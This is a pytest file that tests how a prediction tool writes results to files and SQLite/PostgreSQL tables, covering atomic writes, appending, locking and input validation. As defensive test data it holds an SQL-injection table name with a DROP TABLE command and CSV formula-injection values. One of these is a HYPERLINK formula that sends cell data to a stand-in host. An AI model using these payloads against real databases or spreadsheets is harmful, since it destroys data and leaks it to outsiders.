"""Predictions in files and database tables: written atomically, and existing tables are protected."""

from __future__ import annotations

import sqlite3

import polars as pl
import pytest

from estimator import verbs
from estimator.core.lock import locked
from estimator.data.sinks import sink_for
from estimator.data.sources.opener import open_source
from estimator.errors import SourceError
from estimator.store.batch_prediction import predict_source
from estimator.store.partial_output import BatchSummary
from tests.conftest import read_example
from tests.servers import PASSWORD, postgresql, rows

FORGET = "data.sinks.SQLiteSink.forget data.sinks.PostgreSQLSink.forget"
ENVIRONMENT = {"PGPASSWORD": PASSWORD}


@pytest.fixture(scope="module")
def postgres():
    with postgresql() as server:
        yield server


@pytest.fixture
def predictor(store):
    return verbs.Context(store_path=str(store)).version("house_pricing_model").predictor


@pytest.fixture
def houses(tmp_path):
    read_example("boston").drop("MEDV").head(60).write_csv(tmp_path / "houses.csv")
    return tmp_path / "houses.csv"


@pytest.fixture
def numbered(houses):
    """The same rows with a number that the schema does not know."""
    pl.read_csv(houses).with_row_index("house", offset=100).write_csv(houses)
    return houses


@pytest.fixture(params=["sqlite", "postgresql"])
def address(request, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    if request.param == "sqlite":
        return "sqlite:///predictions.db"
    server = request.getfixturevalue("postgres")
    server.run('DROP SCHEMA public CASCADE; CREATE SCHEMA public; DROP SCHEMA IF EXISTS "Big" CASCADE')
    return server.address


def predict(predictor, houses, address, table="predictions", if_exists=None, **options):
    with open_source(str(houses)) as source:
        return predict_source(
            predictor, source, sink_for(address, ENVIRONMENT, table=table, if_exists=if_exists), **options
        )


def read(address, query):
    return rows(address, query, **ENVIRONMENT)


def expected(predictor):
    return predictor.predict(read_example("boston").drop("MEDV").head(60)).tolist()


def test_table_rows_are_numbered(predictor, houses, address, tmp_path):
    assert predict(predictor, houses, address).rows == 60
    written = read(address, "SELECT * FROM predictions ORDER BY row")
    assert written.columns == ["row", "prediction", "prediction_low", "prediction_high"]
    assert written["row"].to_list() == list(range(1, 61))
    assert written["prediction"].to_list() == expected(predictor)
    assert not list(tmp_path.glob(".*"))


def test_kept_column_comes_before_the_prediction(predictor, numbered, address):
    predict(predictor, numbered, address, keep=["house"])
    written = read(address, "SELECT * FROM predictions ORDER BY house")
    assert written.columns == ["house", "prediction", "prediction_low", "prediction_high"]
    assert written["prediction"].to_list() == expected(predictor)


def test_existing_table_needs_if_exists(predictor, houses, address):
    def count():
        return read(address, "SELECT count(*) AS n FROM predictions")["n"][0]

    predict(predictor, houses, address)
    with pytest.raises(SourceError, match="table predictions: exists"):
        predict(predictor, houses, address)
    predict(predictor, houses, address, if_exists="append")
    assert count() == 120
    predict(predictor, houses, address, if_exists="replace")
    assert count() == 60
    predict(predictor, houses, address, table="others", if_exists="append")
    assert read(address, "others").height == 60


def test_failed_append_keeps_table_and_parts(predictor, numbered, address, tmp_path):
    predict(predictor, numbered, address, keep=["house", "CRIM"])
    with pytest.raises(SourceError, match="RM"):
        predict(predictor, numbered, address, keep=["house", "RM"], if_exists="append")
    assert read(address, "predictions").height == 60
    assert len(list(tmp_path.glob(".predictions.*.parts"))) == 1
    assert predict(predictor, numbered, address, keep=["house", "RM"], if_exists="replace").rows_resumed == 60


@pytest.mark.parametrize("step", ["store.partial_output.write_atomic", "store.partial_output.shutil.rmtree", FORGET])
def test_append_that_ends_after_its_commit_is_not_repeated(predictor, houses, address, tmp_path, monkeypatch, step):
    def ends(*_args, **_options):
        raise KeyboardInterrupt

    predict(predictor, houses, address)
    with monkeypatch.context() as patched:
        for name in step.split():
            patched.setattr(f"estimator.{name}", ends)
        with pytest.raises(KeyboardInterrupt):
            predict(predictor, houses, address, if_exists="append")
    assert predict(predictor, houses, address, if_exists="append") == BatchSummary(60, rows_resumed=60)
    assert read(address, "predictions").height == 120
    assert not list(tmp_path.glob(".*"))
    predict(predictor, houses, address, if_exists="append")
    assert read(address, "predictions").height == 180


def test_tables_of_one_name_in_two_databases_have_nothing_in_common(predictor, houses, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    first, second = (sink_for(f"sqlite:///{name}.db", {}, table="t") for name in "ab")
    with locked(first.parts_path):
        assert predict(predictor, houses, "sqlite:///b.db", table="t").rows == 60
    assert second.parts_path == sink_for(f"sqlite:///{tmp_path}/b.db", {}, table="t").parts_path


def test_table_name_may_hold_a_schema(predictor, houses, postgres, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    postgres.run('CREATE SCHEMA IF NOT EXISTS "Big"')
    for if_exists in (None, "append"):
        predict(predictor, houses, postgres.address, table="Big.predictions", if_exists=if_exists)
    assert read(postgres.address, "Big.predictions").height == 120


def test_locked_database_times_out(predictor, houses, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("estimator.data.sinks.LOCK_TIMEOUT_SECONDS", 0.1)
    with sqlite3.connect("predictions.db", isolation_level=None) as other:
        other.execute("BEGIN IMMEDIATE")
        with pytest.raises(SourceError, match="locked"):
            predict(predictor, houses, "sqlite:///predictions.db")
        other.execute("ROLLBACK")
    assert predict(predictor, houses, "sqlite:///predictions.db").rows_resumed == 60


@pytest.mark.parametrize(
    ("output", "options", "message"),
    [
        ("sqlite:///predictions.db", {"table": None}, "expected the name of a table"),
        ("sqlite:///predictions.db", {"table": 'a"; DROP TABLE b; --'}, "expected the name of a table"),
        ("sqlite:///nowhere/predictions.db", {}, "cannot be written"),
        ("mysql://me@host/db", {}, "cannot be written to mysql://"),
        ("postgresql://me:secret@host/db", {}, "contains a password"),
        ("postgresql://me@127.0.0.1:1/db", {}, "cannot connect"),
        ("predictions.csv", {}, "is a file"),
        ("predictions.csv", {"table": None, "if_exists": "append"}, "is a file"),
        ("predictions.xlsx", {"table": None}, "expected a file that ends in .parquet or .csv"),
        ("nowhere/predictions.csv", {"table": None}, "the folder nowhere does not exist"),
        ("houses.csv", {"table": None}, "is also the input"),
        ("predictions.csv", {"table": None, "keep": ["home"]}, "no column 'home' to keep"),
    ],
)
def test_unwritable_output_fails_before_reading(predictor, houses, tmp_path, monkeypatch, output, options, message):
    monkeypatch.chdir(tmp_path)
    before = sorted(path.name for path in tmp_path.iterdir())
    with pytest.raises(SourceError, match=message):
        predict(predictor, "houses.csv", output, **options)
    assert sorted(path.name for path in tmp_path.iterdir() if path.suffix != ".parts") == before


def test_kept_column_cannot_clash_with_predictions(predictor, numbered, tmp_path):
    table = pl.read_csv(numbered).rename({"house": "prediction"})
    table.write_csv(numbered)
    with pytest.raises(SourceError, match="cannot keep 'prediction'"):
        predict(predictor, numbered, str(tmp_path / "predictions.csv"), table=None, keep=["prediction"])


FORMULAS = ["=1+1", "+A1", "-2+A1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1", '=HYPERLINK("http://a.test/"&A1)']
PLAIN = ["-5", "+3.5", "-1e-5", "-.5", "a=b", "", " x", "'=1", "x-y"]


def test_formulas_in_a_csv_are_quoted_on_request(houses, store, tmp_path, run):
    values = [*FORMULAS, *PLAIN]
    table = pl.read_csv(houses).head(len(values))
    numbers = [-float(index) for index in range(len(values))]
    table.with_columns(pl.Series("=note", values), pl.Series("n", numbers)).write_csv(houses)
    model = ("--model", "house_pricing_model", "--store", store, "--keep", "=note", "--keep", "n")
    command = ("predict", *model, "--input", houses, "--output", tmp_path / "out.csv")
    assert run(*command)[0] == 0
    as_they_are = pl.read_csv(tmp_path / "out.csv", infer_schema=False)
    assert run(*command, "--quote-formulas")[0] == 0
    quoted = pl.read_csv(tmp_path / "out.csv", infer_schema=False)
    kept = as_they_are["=note"].to_list()
    assert [text for text in kept if text] == [text for text in values if text]
    assert quoted["'=note"].to_list() == [f"'{text}" if text in FORMULAS else text for text in kept]
    assert quoted.drop("'=note").equals(as_they_are.drop("=note"))


def test_only_a_csv_has_formulas_to_quote(houses, store, tmp_path, run):
    command = ("predict", "--model", "house_pricing_model", "--store", store, "--input", houses, "--quote-formulas")
    for output in (tmp_path / "out.parquet", f"sqlite:///{tmp_path}/out.db"):
        code, _, message = run(*command, "--output", output)
        assert (code, "--quote-formulas is for a .csv file" in message) == (1, True)
